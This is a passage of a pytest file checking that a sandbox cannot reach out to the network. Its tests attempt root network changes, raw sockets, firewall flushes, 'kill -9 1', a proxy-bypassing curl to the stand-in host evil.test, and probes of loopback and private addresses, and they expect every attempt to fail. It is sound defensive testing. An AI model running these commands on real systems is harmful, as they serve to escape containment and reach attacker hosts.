            str(tmp_path / "k"), "-CAcreateserial", "-out", str(tmp_path / "leaf"), "-extfile",
            str(config), "-extensions", "leaf")
    with pytest.raises(RuntimeError, match="permitted subtree violation"):
        openssl("verify", "-CAfile", str(tmp_path / "ca"), str(tmp_path / "leaf"))


def test_case_61_root_cannot_make_a_way_out(lab, box):
    for command in ("ip link add d0 type dummy", "ip address add 203.0.113.250/24 dev lo",
                    "ip route add default dev lo", "nft flush ruleset", "iptables -F",
                    "unshare --net true", "ip netns add x", "ip rule add from all lookup 5",
                    "sysctl -w net.ipv4.ip_forward=1", "mount -t sysfs none /mnt"):
        assert box.sh(f"sudo {command} 2>/dev/null").code != 0, command
    out = box.sandbox.python(
        "import socket\n"
        "for args in ((socket.AF_PACKET, socket.SOCK_RAW, 768), (socket.AF_INET, socket.SOCK_RAW, 255),\n"
        "             (socket.AF_NETLINK, socket.SOCK_RAW, 12)):\n"
        "    try: socket.socket(*args); print('MADE', args)\n"
        "    except OSError: pass\n", sudo=True)
    assert out.text == "", out.text
    box.sh("sudo pkill -9 -f casemate; sudo kill -9 1")
    assert box.sh("NO_PROXY='*' no_proxy='*' HTTPS_PROXY= curl -sS -k -m 5 https://evil.test/").code != 0
    assert not lab.evil.connections
    assert box.ok("-k", "https://files.test/") == "ok", "and it still works"


@pytest.mark.parametrize("port", [80, 443, 53, 8080, 5432])
def test_case_62_63_nothing_of_the_node_answers(lab, box, port):
    api = lab.instance.address[1]
    hosts = ("127.0.0.1", "::1", "0.0.0.0", Network.NODE, *PRIVATE)
    results = box.probe(*({"host": h, "port": p, "tls": False, "timeout": 2,
                           "send": b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"}
                          for h in hosts for p in (port, api)))
    for result in results:
        assert status_of(result) != 200 and b"READY" not in result["data"], result
    assert not lab.private.connections and not lab.node.connections


def test_case_63_a_name_that_resolves_to_the_node(lab, box):
    for address in ("127.0.0.1", Network.NODE):
        lab.resolver.zone["self.pkg.test"] = (address,)
        result = box.request(b"GET /healthz HTTP/1.1\r\nHost: self.pkg.test\r\n\r\n",
                             host="self.pkg.test", port=lab.instance.address[1], tls=False, timeout=4)
        assert b'"status":"ok"' not in result["data"]


def test_case_63_the_worker_s_own_sockets(lab, box):
    """The listeners that every connection is steered to have a port; dialling it is no door."""
    listening = box.sandbox.check_sh("cat /proc/net/tcp /proc/net/tcp6").splitlines()
    ports = {int(line.split()[1].split(":")[1], 16) for line in listening
             if line.split()[3:4] == ["0A"]}
    for port in ports:
        for host in ("127.0.0.1", "::1"):
            result, = box.probe({"host": host, "port": port, "tls": False, "timeout": 3,
                                 "send": b"GET / HTTP/1.1\r\nHost: files.test\r\n\r\n"})
            assert status_of(result) != 200, (host, port)
    nothing_arrived(lab)
